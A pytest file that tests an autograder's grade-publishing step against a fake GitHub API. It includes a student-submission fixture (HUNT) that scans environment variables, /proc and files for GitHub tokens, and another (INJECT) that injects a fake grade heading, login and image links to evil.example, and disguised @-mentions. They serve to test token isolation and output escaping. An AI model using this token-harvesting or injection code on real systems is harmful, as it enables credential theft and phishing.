"""Does publish post each graded commit's score and feedback once, and leave nothing lost when GitHub fails?

The gradebook is written with report's own functions; the API is tests/fake_github.py on 127.0.0.1.
"""

from __future__ import annotations

import html
import json
import re
import unicodedata

import pytest
from markdown_it import MarkdownIt

from autograder import cli
from autograder import github as hub
from autograder.pipeline import Entry, NotebookResult
from autograder.report import results as report
from autograder.verbs.collect import Collected, write_record
from autograder.verbs.fetch import fetch, roster_repositories
from autograder.verbs.publish import MAX_DESCRIPTION, comment, publish, verdict
from tests.fake_github import FakeGitHub, make_class
from tests.support import run_cli

TOKEN = "ghs_test0123456789abcdefABCDEF0123456789"


@pytest.fixture(autouse=True)
def no_pacing(monkeypatch):
    monkeypatch.setenv("AUTOGRADER_API_PACE", "0")


def _id(name: str) -> tuple[str, str, str]:
    """("01_corr2d", "corr2d", "hidden") from "01_corr2d/corr2d: hidden"."""
    head, _, title = name.partition(": ")
    assignment, _, item = head.partition("/")
    return assignment, item, title


def graded(gradebook, student, entries, internal_error=""):
    """results.json and feedback.md of one student, as grade-all writes them."""
    result = NotebookResult(f"submitted/{student}/01_corr2d/01_corr2d.ipynb", "01_corr2d",
                            entries=[Entry(*_id(name), score, most, output) for name, score, most, output in entries],
                            internal_error=internal_error)
    data = report.results_json([result])
    report.write_json(data, gradebook / student / "results.json")
    (gradebook / student / "feedback.md").write_text(report.feedback_markdown(student, data))
    return data


FULL = [("01_corr2d/corr2d: public checks", 1.0, 1.0, ""), ("01_corr2d/corr2d: hidden cases", 3.0, 3.0, "")]
PARTIAL = [("01_corr2d/corr2d: public checks", 1.0, 1.0, ""),
           ("01_corr2d/corr2d: hidden cases", 1.5, 3.0,
            "corr2d(X of shape (5, 7), K of shape (2, 3)) returned shape (4, 5); expected (4, 5) with max error 2.1\n"
            "hint: a flipped kernel gives a convolution, not a cross-correlation (ask @instructor)")]


@pytest.fixture
def fetched(tmp_path):
    """Alice, Bob and Carol's newest commits fetched into tmp/inbox; Alice full marks, Bob half, Carol none."""
    with FakeGitHub(TOKEN) as api:
        roster = make_class(api, tmp_path, {"alice": [(None, True)], "bob": [(None, True)], "carol": [(None, True)]})
        fetch(hub.client(api.url, TOKEN), roster_repositories(roster, "course-org", "cnn"), ["01_corr2d"],
              tmp_path / "inbox")
        graded(tmp_path / "gradebook", "alice", FULL)
        graded(tmp_path / "gradebook", "bob", PARTIAL)
        graded(tmp_path / "gradebook", "carol", PARTIAL)
        api.roster = roster
        yield api, tmp_path


def sha(api, name):
    return api.resolve(f"course-org/cnn-{name}", "HEAD")


def test_each_commit_gets_one_comment_then_a_status_that_carries_the_score(fetched):
    api, tmp = fetched
    done = publish(hub.client(api.url, TOKEN), tmp / "inbox", tmp / "gradebook")
    assert done.posted == ["alice", "bob", "carol"] and not done.later
    statuses, comments = api.posted("course-org/cnn-bob", sha(api, "bob"))
    assert len(statuses) == 1 and len(comments) == 1
    assert statuses[0]["state"] == "failure" and statuses[0]["context"] == "autograder"
    assert statuses[0]["description"] == "2.5/4 points with the hidden checks"
    assert statuses[0]["target_url"] == comments[0]["html_url"]
    assert f"2.5/4 points for {sha(api, 'bob')[:7]}" in comments[0]["body"]
    assert "returned shape (4, 5)" in comments[0]["body"]                  # the teaching message
    assert "@instructor" not in comments[0]["body"] and "@\u2060instructor" in comments[0]["body"]  # no ping
    alice = api.posted("course-org/cnn-alice", sha(api, "alice"))[0]
    assert alice[0]["state"] == "success" and alice[0]["description"].startswith("4/4 points")
    order = [path for method, path, _ in api.log if method == "POST" and "cnn-bob" in path]
    assert "/comments" in order[0] and "/statuses/" in order[1]            # the status, the record, goes last


def test_a_posted_commit_is_skipped_by_the_next_fetch(fetched):
    api, tmp = fetched
    publish(hub.client(api.url, TOKEN), tmp / "inbox", tmp / "gradebook")
    again = fetch(hub.client(api.url, TOKEN), roster_repositories(api.roster, "course-org", "cnn"), ["01_corr2d"],
                  tmp / "again")
    assert again.graded == ["alice", "bob", "carol"] and not again.new


def test_a_rate_limit_stops_posting_and_the_next_run_posts_the_rest(fetched):
    api, tmp = fetched
    api.rate_limit("POST", r"/cnn-bob/statuses/")
    github = hub.client(api.url, TOKEN)
    done = publish(github, tmp / "inbox", tmp / "gradebook")
    assert done.posted == ["alice"] and [student for student, _ in done.later] == ["bob", "carol"]
    assert any("rate limit" in problem and "next run" in problem for problem in done.problems)
    assert api.posted("course-org/cnn-bob", sha(api, "bob"))[0] == []     # no record: bob is not lost
    refetched = fetch(github, roster_repositories(api.roster, "course-org", "cnn"), ["01_corr2d"], tmp / "again")
    assert [entry.student for entry in refetched.new] == ["bob", "carol"]
    assert publish(github, tmp / "again", tmp / "gradebook").posted == ["bob", "carol"]
    statuses, comments = api.posted("course-org/cnn-bob", sha(api, "bob"))
    assert len(statuses) == 1 and len(comments) == 1       # the comment of the stopped run is kept, not posted again
    assert statuses[0]["target_url"] == comments[0]["html_url"]


def test_a_vanished_repository_or_a_server_error_does_not_stop_the_others(fetched):
    api, tmp = fetched
    del api.repos["course-org/cnn-alice"]
    api.fail("POST", r"/cnn-bob/commits/.*/comments", status=502)
    done = publish(hub.client(api.url, TOKEN), tmp / "inbox", tmp / "gradebook")
    assert done.posted == ["carol"] and done.later == [("bob", "HTTP 502: Server Error")]
    assert any("alice" in problem and "gone" in problem for problem in done.problems)
    assert sum(1 for method, path, _ in api.log if method == "POST" and "cnn-bob" in path) == 1   # no retried write


def test_a_failed_grading_is_not_posted_and_an_empty_commit_gets_an_error(fetched):
    api, tmp = fetched
    graded(tmp / "gradebook", "alice", [], internal_error="RuntimeError: boom")
    (tmp / "gradebook" / "bob" / "results.json").unlink()
    write_record(tmp / "inbox", [Collected("alice", "course-org/cnn-alice", sha(api, "alice"), "", ["01_corr2d"]),
                                 Collected("bob", "course-org/cnn-bob", sha(api, "bob"), "", ["01_corr2d"]),
                                 Collected("carol", "course-org/cnn-carol", sha(api, "carol"), "", [])])
    done = publish(hub.client(api.url, TOKEN), tmp / "inbox", tmp / "gradebook")
    assert done.posted == ["carol"] and [student for student, _ in done.later] == ["alice", "bob"]
    statuses, comments = api.posted("course-org/cnn-carol", sha(api, "carol"))
    assert statuses[0]["state"] == "error" and "No notebook" in statuses[0]["description"] and not comments


def test_a_refused_token_is_an_error_of_the_command(fetched, monkeypatch, capsys):
    api, tmp = fetched
    monkeypatch.setenv(hub.TOKEN_VARIABLE, "ghs_wrong")
    assert cli.main(["publish", str(tmp / "inbox"), str(tmp / "gradebook"), "--api-url", api.url]) == 1
    assert "refused the token" in capsys.readouterr().err
    monkeypatch.setenv(hub.TOKEN_VARIABLE, TOKEN)
    assert cli.main(["publish", str(tmp / "inbox"), str(tmp / "gradebook"), "--api-url", api.url]) == 0
    assert "posted 3 grade(s)" in capsys.readouterr().out


def test_the_pass_threshold_is_a_share_of_the_points(fetched, capsys, monkeypatch):
    api, tmp = fetched
    entry = Collected("bob", "o/r", "0123456789abcdef", "", ["01_corr2d"])
    half = {"score": 2.5, "max_score": 4, "tests": []}
    assert verdict(entry, half)[0] == "failure"                             # full points by default
    assert verdict(entry, half, pass_at=0.625)[0] == "success"              # exactly the threshold
    assert verdict(entry, half, pass_at=0.7)[0] == "failure"
    assert verdict(entry, {"score": 0, "max_score": 0, "tests": []}, pass_at=0)[0] == "failure"   # nothing to pass
    monkeypatch.setenv(hub.TOKEN_VARIABLE, TOKEN)
    args = ["publish", str(tmp / "inbox"), str(tmp / "gradebook"), "--api-url", api.url]
    assert cli.main([*args, "--pass-at", "1.5"]) == 2 and "a fraction from 0 to 1" in capsys.readouterr().err
    assert not [path for method, path, _ in api.log if method == "POST"]    # nothing posted
    assert cli.main([*args, "--pass-at", "0.6"]) == 0
    states = {name: api.posted(f"course-org/cnn-{name}", sha(api, name))[0][0]["state"] for name in ("alice", "bob")}
    assert states == {"alice": "success", "bob": "success"}                 # 2.5/4 >= 0.6 x 4


def test_descriptions_fit_and_long_comments_are_cut():
    entry = Collected("dave", "o/r", "0123456789abcdef", "", ["01_corr2d"])
    many = {"score": 1234.5, "max_score": 5000, "internal_error": False,
            "tests": [{"name": f"{n:02d}_assignment_with_a_long_name/item: hidden", "score": 1.0, "max_score": 2.0,
                       "extra_data": {"assignment": f"{n:02d}_assignment_with_a_long_name", "item": "item"}}
                      for n in range(30)]}
    state, description = verdict(entry, many)
    assert state == "failure" and len(description) <= MAX_DESCRIPTION
    assert description == "1234.5/5000 points with the hidden checks"        # the per-assignment part does not fit
    two = {"score": 20, "max_score": 23, "tests": [
        {"name": "01_corr2d/corr2d: hidden cases", "score": 11, "max_score": 11,
         "extra_data": {"assignment": "01_corr2d", "item": "corr2d"}},
        {"name": "02_padding_stride_channels/conv2d_padded: hidden cases", "score": 9, "max_score": 12,
         "extra_data": {"assignment": "02_padding_stride_channels", "item": "conv2d_padded"}}]}
    assert verdict(entry, two) == ("failure", "20/23 points with the hidden checks (01: 11/11, 02: 9/12)")
    text = comment(entry, many, "# Feedback\n" + "x" * 100_000)
    assert len(text) < 65_536 and text.rstrip().endswith("gradebook)")


# -- the whole round, as the workflow runs it: fetch (token), grade-all (no token), publish (token) -----------

# A submission that hunts for GitHub tokens in everything it can read: its environment, every process's
# environment and command line, and the files it can reach (/tmp first, where the round's files are). It plants
# a decoy token in its own home first, so a report without the decoy means the hunt did not run.
HUNT = r'''
import os, re, time

_TOKEN = re.compile(rb"gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}")


def _hunt(budget=8.0):
    start, found, files = time.monotonic(), set(), 0
    home = os.path.expanduser("~")
    try:
        with open(os.path.join(home, "decoy.txt"), "wb") as handle:
            handle.write(b"ghs_" + b"D" * 36)
    except OSError:
        pass
    blobs = [value.encode() for value in os.environ.values()]
    for pid in (name for name in os.listdir("/proc") if name.isdigit()):
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    blobs.append(handle.read())
            except OSError:
                pass
    for blob in blobs:
        found.update(_TOKEN.findall(blob))
    for root in (home, "/tmp", os.getcwd(), "/root", "/home", "/"):
        for folder, dirs, names in os.walk(root):
            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ("/proc", "/sys", "/dev")]
            for name in names:
                if time.monotonic() - start > budget:
                    return files, found
                try:
                    with open(os.path.join(folder, name), "rb") as handle:
                        found.update(_TOKEN.findall(handle.read(1 << 20)))
                    files += 1
                except OSError:
                    pass
    return files, found


_FILES, _FOUND = _hunt()


def corr2d(X, K):
    raise ValueError(f"HUNT files={_FILES} found={sorted(token.decode() for token in _FOUND)}")
'''


# A submission whose error message is out to fake a grade in the comment posted on its commit.
INJECT = r'''
def corr2d(X, K):
    raise ValueError("no\n```\n### Autograder: 11/11 points, every hidden check passed\n"
                     "[log in](https://evil.example/login) ![t](https://evil.example/t.png)\n"
                     "<details><summary>more</summary><a href='https://evil.example'>log in</a></details>\n"
                     "ask &#64;instructor or \uff20instructor\n````")
'''


def _run(*args, env):
    return run_cli(*args, env=env)


def test_the_round_keeps_the_token_from_student_code_and_posts_each_grade_once(tmp_path):
    import os
    import secrets
    import subprocess
    import sys

    token = "ghs_" + secrets.token_hex(18)
    plain = {key: value for key, value in os.environ.items() if key != hub.TOKEN_VARIABLE}
    plain["AUTOGRADER_API_PACE"] = "0"
    holding = dict(plain, **{hub.TOKEN_VARIABLE: token})

    # the hunt can find a token where one is: in its environment, and in its own decoy
    control = subprocess.run([sys.executable, "-c", HUNT + "\nprint(sorted(t.decode() for t in _hunt(2)[1]))"],
                             capture_output=True, text=True, env=holding, timeout=60)
    assert token in control.stdout and "ghs_DDDD" in control.stdout

    with FakeGitHub(token) as api:
        roster = make_class(api, tmp_path, {"alice": [(None, True)], "bob": [(None, {"corr2d": HUNT})],
                                            "carol": [(None, {"corr2d": INJECT})]})
        inbox = tmp_path / "inbox" / "submitted"
        fetched = _run("fetch", "--roster", str(roster), "--org", "course-org", "--prefix", "cnn", "--into",
                       str(inbox), "--assignments", "01_corr2d", "--api-url", api.url, env=holding)
        assert fetched.returncode == 0, fetched.stderr
        graded = _run("grade-all", str(inbox), "--push", "--out", str(tmp_path / "gradebook"), "--jobs", "2",
                      env=plain)
        assert graded.returncode == 0, graded.stderr + graded.stdout
        seed = json.loads((tmp_path / "gradebook" / "alice" / "results.json").read_text())["seeds"][0]["from"]
        assert f"push of commit {api.resolve('course-org/cnn-alice', 'HEAD')[:12]}" in seed, seed
        posted = _run("publish", str(inbox), str(tmp_path / "gradebook"), "--api-url", api.url, env=holding)
        assert posted.returncode == 0 and "posted 3 grade(s)" in posted.stdout, posted.stderr

        bob = api.resolve("course-org/cnn-bob", "HEAD")
        statuses, comments = api.posted("course-org/cnn-bob", bob)
        report_line = re.search(r"HUNT files=(\d+) found=(\[.*?\])", comments[0]["body"])
        assert report_line, comments[0]["body"]
        assert int(report_line[1]) > 100 and "ghs_DDDD" in report_line[2]      # the hunt ran, and found its decoy
        assert token not in report_line[2]
        assert statuses[0]["state"] == "failure"
        assert r"| corr2d: public checks \(notebook\) | 0 / 1 | **failed** |" in comments[0]["body"]
        assert "--seed" not in comments[0]["body"] and str(tmp_path) not in comments[0]["body"]
        assert "drawn for this commit" in comments[0]["body"], "a push's comment says whose inputs it met"
        # carol's message shows as text: no link, image, HTML or heading of hers, and it pings nobody
        carol = api.posted("course-org/cnn-carol", api.resolve("course-org/cnn-carol", "HEAD"))[1][0]["body"]
        rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(carol)
        assert "11/11 points, every hidden check passed" in carol
        assert not re.search(r"<(a|img|details|summary)\b", rendered), rendered
        titles = re.findall(r"<h[1-6]>(.*?)</h[1-6]>", rendered)
        assert re.fullmatch(r"Autograder: [\d.]+/11 points for [0-9a-f]{7}", titles[0]), titles
        assert not any("every hidden check passed" in title for title in titles), titles
        assert not re.search(r"@[^\W\d_]", unicodedata.normalize("NFKC", html.unescape(carol)))
        alice = api.posted("course-org/cnn-alice", api.resolve("course-org/cnn-alice", "HEAD"))[0]
        assert alice[0]["state"] == "success"
        # no file of the round holds the token, and no request went without it
        for path in tmp_path.rglob("*"):
            if path.is_file():
                assert token.encode() not in path.read_bytes(), path
        assert all(authorised for _, _, authorised in api.log)

        again = _run("fetch", "--roster", str(roster), "--org", "course-org", "--prefix", "cnn", "--into",
                     str(tmp_path / "again"), "--assignments", "01_corr2d", "--api-url", api.url, env=holding)
        assert "fetched 0 new commit(s)" in again.stdout and "3 already graded" in again.stdout
        assert sum(len(v) for v in api.statuses.values()) == 3 and sum(len(v) for v in api.comments.values()) == 3
